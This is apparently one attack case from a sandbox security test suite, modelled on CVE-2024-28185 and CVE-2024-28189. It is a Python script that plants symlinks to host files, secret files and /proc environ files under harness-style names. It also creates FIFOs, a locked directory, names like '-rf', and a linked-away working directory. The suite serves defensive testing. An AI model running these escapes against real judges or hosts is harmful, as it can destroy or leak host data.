# id = "files-planted-links"
# title = "plant links to host files where the host will later clean up, list or measure"
# guarantee = "filesystem"
# layers = ["agent"]
# source = ["CVE-2024-28185", "CVE-2024-28189", "go-judge#176"]
# needs = ["host-file", "secret-file"]
# expect = ["exited:0", "file_limit"]
# bare = ""
# why = "What would get through is the host's own clean-up. The audit checks the host file after the run."
import contextlib
import os

from attack import props

names = ["stdin", "stdout", "stderr", "meta", "run", "run.sh", "result.json", "out.txt", "a.out", "main", "core", "tmp"]
targets = [props["host_path"], props["host_dir"], props["secret_path"], "/proc/self/environ", "/proc/1/environ", "/dev/zero"]
places = [".", os.environ.get("TMPDIR", "/tmp"), "..", os.path.expanduser("~")]
for place in places:
    for number, name in enumerate(names):
        path = os.path.join(place, name)
        with contextlib.suppress(OSError):
            os.symlink(targets[number % len(targets)], path)
    for name, make in (
        ("fifo", os.mkfifo),
        ("locked", lambda path: (os.makedirs(path + "/inner"), os.symlink(props["host_dir"], path + "/inner/link"), os.chmod(path, 0))),
        ("\udcff\udcfe", os.mkdir),
        ("-rf", os.mkdir),
        ("new\nline", os.mkdir),
    ):
        with contextlib.suppress(OSError, ValueError):
            make(os.path.join(place, name))
# Replace the program's own directory by a link, as far as that is possible.
with contextlib.suppress(OSError):
    here = os.getcwd()
    os.rename(here, here + ".moved")
    os.symlink(props["host_dir"], here)
print("planted")
